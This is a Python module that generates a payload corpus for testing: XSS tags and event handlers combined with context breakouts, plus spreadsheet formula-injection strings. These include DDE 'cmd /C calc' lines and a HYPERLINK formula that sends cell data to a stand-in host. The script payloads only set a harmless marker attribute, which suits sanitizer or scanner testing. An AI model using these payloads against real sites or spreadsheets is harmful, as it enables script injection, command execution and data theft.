"""Words that would run, were a page to take them for its own: 250 and more, by what they try and how they break out."""

from collections.abc import Iterator
from itertools import product
from typing import Final

RUN: Final = "document.documentElement.dataset.ran=1"
"""What each of them tries; a page that shows the attribute has run one."""

_TRIES: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" alt="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>here</a>',
    f"<form><button formaction=javascript:{RUN}>here</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "<meta http-equiv=refresh content='0;url=data:text/html,gone'>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';</style>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
)
_BREAKS: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</option></select>{}",
    "-->{}",
    "]]>{}",
    "&lt;/p&gt;{}",
    "{{{{7*7}}}}{}",
    '" autofocus onfocus="' + RUN + '" x="{}',
)
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "%0A=1+1",
    '"=1+1',
)


def payloads() -> Iterator[str]:
    """All of them, each once."""
    yield from FORMULAS
    for tried, broken in product(_TRIES, _BREAKS):
        yield broken.format(tried)
